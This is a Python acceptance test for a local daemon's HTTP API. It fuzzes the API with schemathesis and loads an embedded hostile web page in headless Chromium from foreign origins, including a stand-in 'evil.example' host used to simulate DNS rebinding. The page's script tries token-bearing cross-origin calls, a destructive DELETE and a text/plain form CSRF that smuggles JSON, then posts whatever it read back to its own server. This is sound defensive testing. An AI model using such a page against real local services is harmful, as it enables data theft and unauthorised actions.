#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""corrald against two third parties: schemathesis, which calls the API by its own description with all kinds of values, and
a real Chromium with pages of other origins, another port of the same host among them.

    daemon.py     prints TAP; CORRAL, CORRALD and CORRALD_HTTP name the programs

schemathesis is installed from PyPI into a scratch folder, pinned with hashes (schemathesis.txt)."""

import http.server
import os
import re
import shutil
import subprocess
import sys
import tempfile
import threading

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "e2e"))
from broker_tap import end, ok, skip  # noqa: E402
from daemon_tap import Bridge, Daemon, until  # noqa: E402

HERE = os.path.dirname(os.path.abspath(__file__))
CHROMIUM = shutil.which("chromium") or "/usr/lib/chromium/chromium"
CHECKS = "not_a_server_error,status_code_conformance,content_type_conformance"


def test_schemathesis(d, scratch):
    done = subprocess.run([sys.executable, "-m", "pip", "install", "-q", "--require-hashes", "--no-deps", "--target", scratch, "-r",
                           HERE + "/schemathesis.txt"], capture_output=True, text=True, timeout=300, check=False)
    if not ok(done.returncode == 0, "schemathesis is there, by its hashes", done.stderr[-1500:]):
        return
    bridge = Bridge(d)
    done = subprocess.run([sys.executable, "-m", "schemathesis.cli", "run", bridge.url + "/api/openapi.json", "-H",
                           "Authorization: Bearer " + d.token, "--phases", "coverage,fuzzing", "-n", "10", "--seed", "1", "--checks", CHECKS,
                           "--exclude-path", "/sse/events", "--continue-on-failure", "--max-time", "60", "--request-timeout", "40",
                           "--suppress-health-check", "too_slow"],
                          env={**os.environ, "PYTHONPATH": scratch}, cwd=scratch, capture_output=True, text=True, timeout=300, check=False)
    cases = re.search(r"(\d+) generated", done.stdout)
    ok(done.returncode == 0 and cases and int(cases[1]) > 50, "schemathesis: no server error, no undocumented answer", done.stdout[-3000:], done.stderr[-500:])
    print("#", cases[0] if cases else "")
    ok(d.status()["pid"] == d.process.pid and d.process.poll() is None and d.status()["http"]["restarts"] == 0, "and nothing was started again", d.status())


# What a page of another origin tries. It sends what it could read to its own server.
PAGE = """<!doctype html><title>page</title><script>
const api = 'http://HOST:PORT', got = [];
const said = (name, value) => got.push(name + '=' + value);
const tries = {
  health: () => fetch(api + '/api/health').then(r => r.text()),
  status: () => fetch(api + '/api/status', {headers: {Authorization: 'Bearer TOKEN'}}).then(r => r.text()),
  blind: () => fetch(api + '/api/policies/lint', {method: 'POST', mode: 'no-cors', body: '{"policy":"fs: {}"}'}).then(r => r.type),
  json: () => fetch(api + '/api/policies/lint', {method: 'POST', headers: {'Content-Type': 'application/json', Authorization: 'Bearer TOKEN'}, body: '{"policy":"fs: {}"}'}).then(r => r.text()),
  end: () => fetch(api + '/api/sandboxes/0000000000000000', {method: 'DELETE', headers: {Authorization: 'Bearer TOKEN'}}).then(r => r.text()),
  events: () => new Promise((yes, no) => { const e = new EventSource(api + '/sse/events'); e.onmessage = e.onopen = () => yes('open'); e.onerror = () => { e.close(); no('closed'); }; }),
  script: () => new Promise((yes, no) => { const s = document.createElement('script'); s.src = api + '/api/health'; s.onload = () => yes('ran'); s.onerror = () => no('refused'); document.head.append(s); }),
  frame: () => new Promise((yes, no) => { const f = document.createElement('iframe'); f.src = api + '/api/health'; f.onload = () => { try { yes(f.contentDocument.body.innerText); } catch (e) { no('hidden'); } }; document.documentElement.append(f); setTimeout(() => no('late'), 3000); }),
};
(async () => {
  for (const [name, attempt] of Object.entries(tries)) {
    try { said(name, await Promise.race([attempt(), new Promise((_, no) => setTimeout(() => no('late'), 4000))])); } catch (e) { said(name, 'FAILED ' + e); }
  }
  await fetch('/report', {method: 'POST', body: got.join('\\n')});
})();
</script><form method=post action="http://HOST:PORT/api/policies/lint" enctype="text/plain" target=f><input name='{"policy":"' value='"}'></form><iframe name=f></iframe>
<script>document.forms[0].submit();</script>"""


class Page(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        body = self.server.page.encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_POST(self):
        self.server.report = self.rfile.read(int(self.headers["Content-Length"])).decode()
        self.send_response(204)
        self.end_headers()

    def log_message(self, *_):
        pass


def visit(url, server, scratch, *words):
    """What the page could do: {attempt: what it got}."""
    server.report = None
    profile = tempfile.mkdtemp(dir=scratch)
    with subprocess.Popen([CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--user-data-dir=" + profile,
                           "--remote-debugging-port=0", *words, url], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL) as browser:
        until(lambda: server.report is not None, 180)
        browser.terminate()
    return dict(line.split("=", 1) for line in (server.report or "").split("\n") if "=" in line)


def test_browser(d, scratch):
    if not os.path.exists(CHROMIUM):
        (ok if os.environ.get("CI") == "true" else lambda _, text: skip(text, "no Chromium"))(False, "pages of other origins")
        return
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Page)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    port = server.server_address[1]
    fill = lambda host: PAGE.replace("HOST", host).replace("PORT", str(d.port)).replace("TOKEN", d.token)
    # The page has even the token: what stops it is that its origin is another one.
    for name, origin, api, words in (
            ("another port of the same host", f"http://127.0.0.1:{port}/", "127.0.0.1", ()),
            ("another port of localhost", f"http://localhost:{port}/", "localhost", ()),
            ("another site", f"http://evil.example:{port}/", "127.0.0.1", ("--host-resolver-rules=MAP evil.example 127.0.0.1",)),
            # It even knows the name that the daemon's own page has for this start.
            ("a site that knows the page's name", f"http://evil.example:{port}/", d.host.rsplit(":", 1)[0],
             ("--host-resolver-rules=MAP evil.example 127.0.0.1",)),
            # The page's name leads to this machine, and to the daemon's port: the same origin for the browser.
            ("rebinding", f"http://evil.example:{port}/", "evil.example", ("--host-resolver-rules=MAP evil.example 127.0.0.1",))):
        server.page = fill(api)
        got = visit(origin, server, scratch, *words)
        read = {k: v for k, v in got.items() if not v.startswith("FAILED") and (k, v) != ("blind", "opaque")}
        ok(len(got) == 8 and not read, f"{name}: a page reads nothing and does nothing", got)
    server.shutdown()
    refused = lambda: {r["reason"] for r in d.get("/api/audit?limit=1000&decision=denied")[2]["records"] if r["program"] == "corrald-http"}
    reasons = ("pages of other origins may not call", "the Host header names another server")
    ok(until(lambda: all(any(r.startswith(reason) for r in refused()) for reason in reasons)), "all of it is in the log as refused", refused())


def main():
    scratch = tempfile.mkdtemp(prefix="cd-acceptance-")
    d = Daemon()
    try:
        d.start()
        test_browser(d, scratch)
        test_schemathesis(d, scratch)
    finally:
        d.end()
        shutil.rmtree(scratch, ignore_errors=True)
    return end()


if __name__ == "__main__":
    sys.exit(main())
